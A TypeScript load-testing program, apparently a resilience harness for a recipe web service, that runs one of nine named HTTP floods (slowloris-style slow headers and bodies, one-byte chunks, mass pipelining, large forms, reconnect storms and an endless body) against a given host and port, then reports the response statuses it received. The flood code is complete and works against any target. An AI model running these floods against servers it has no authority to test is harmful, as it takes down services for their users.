// One flood from one client address, as a process of its own: flood-program.js KIND ADDRESS HOST:PORT. Prints what it got at SIGTERM.

import { connect, type Socket } from 'node:net'
import { getPriority, setPriority } from 'node:os'

const [kind = '', localAddress = '', target = ''] = process.argv.slice(2)
const [host = '', port = ''] = target.split(':')
/** Connections opened and lost, and statuses of the responses. */
const got: Record<string, number> = {}
const count = (what: string, n = 1) => {
  got[what] = (got[what] ?? 0) + n
}

const head = (line: string, ...fields: string[]) =>
  `${[`${line} HTTP/1.1`, `Host: ${target}`, ...fields].join('\r\n')}\r\n\r\n`
const FORM = 'Content-Type: application/x-www-form-urlencoded'
const JSON_BODY = ['Content-Type: application/json', 'Authorization: Bearer x.y.z']

/** Sends again and again for as long as the other side reads. */
function pour(socket: Socket, data: string | Buffer): void {
  while (socket.writable && socket.write(data));
  socket.once('drain', () => pour(socket, data))
}

/** Sends one byte a second. */
function drip(socket: Socket, text: string): void {
  const timer = setInterval(() => socket.write(text), 1_000)
  socket.once('close', () => clearInterval(timer))
}

/** Sends the next request after each response. */
function repeat(socket: Socket, request: string): void {
  socket.write(request)
  socket.on('data', (data) => {
    if (endsResponse(data)) socket.write(request)
  })
}

const endsResponse = (data: Buffer) => {
  const tail = data.subarray(-7).toString('latin1')
  return tail.endsWith('0\r\n\r\n') || tail.endsWith(']') || tail.endsWith('}') || tail.endsWith('html>')
}

const FLOODS: Record<string, { connections: number; send: (socket: Socket) => void }> = {
  'slow heads': {
    connections: 200,
    send: (socket) => {
      socket.write(`GET / HTTP/1.1\r\nHost: ${target}\r\nX: `)
      drip(socket, 'x')
    },
  },
  'slow bodies': {
    connections: 200,
    send: (socket) => {
      socket.write(head('POST /recettes/', ...JSON_BODY, 'Content-Length: 1000'))
      drip(socket, ' ')
    },
  },
  'chunks of one byte': {
    connections: 200,
    send: (socket) => {
      socket.write(head('POST /recettes/', ...JSON_BODY, 'Transfer-Encoding: chunked'))
      pour(socket, '1\r\nx\r\n'.repeat(1_000))
    },
  },
  pipelining: {
    connections: 1,
    send: (socket) => void socket.write(head('GET /recettes/?limite=20').repeat(2_400)),
  },
  'forms of 250 kB': {
    connections: 200,
    send: (socket) => {
      const form = `username=${'a'.repeat(250_000)}`
      repeat(socket, head('POST /recettes/', FORM, `Content-Length: ${form.length}`) + form)
    },
  },
  'whole searches': {
    connections: 200,
    send: (socket) => repeat(socket, head('GET /recettes/recherche/?ingredient=navet')),
  },
  'pages of the web front': {
    connections: 200,
    send: (socket) => repeat(socket, head('GET /recherche?avec=navet')),
  },
  reconnects: {
    connections: 200,
    send: (socket) => {
      socket.write(head('GET /recettes/?limite=20'))
      socket.once('data', () => socket.destroy())
    },
  },
  'a body at line speed': {
    connections: 8,
    send: (socket) => {
      socket.write(head('POST /recettes/', ...JSON_BODY, 'Content-Length: 100000000000'))
      pour(socket, Buffer.alloc(65_536, 32))
    },
  },
}

/** Opens a connection, and another one when it ends. */
function open(send: (socket: Socket) => void): void {
  const socket = connect({ host, port: Number(port), localAddress })
  socket.once('connect', () => {
    count('connections')
    send(socket)
  })
  socket.on('data', (data) => {
    for (const [, status] of data.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3})/g)) count(String(status))
  })
  socket.on('error', () => count('resets'))
  socket.once('close', () => setTimeout(() => open(send), 10))
}

// An attacker's machine is another one: here it may not take this one's CPU from the services.
setPriority(Math.min(19, getPriority() + 10))
const flood = FLOODS[kind]
if (flood === undefined) throw new Error(`no flood is called ${kind}`)
for (let n = 0; n < flood.connections; n++) open(flood.send)
process.once('SIGTERM', () => {
  process.stdout.write(`${JSON.stringify(got)}\n`, () => process.exit())
})
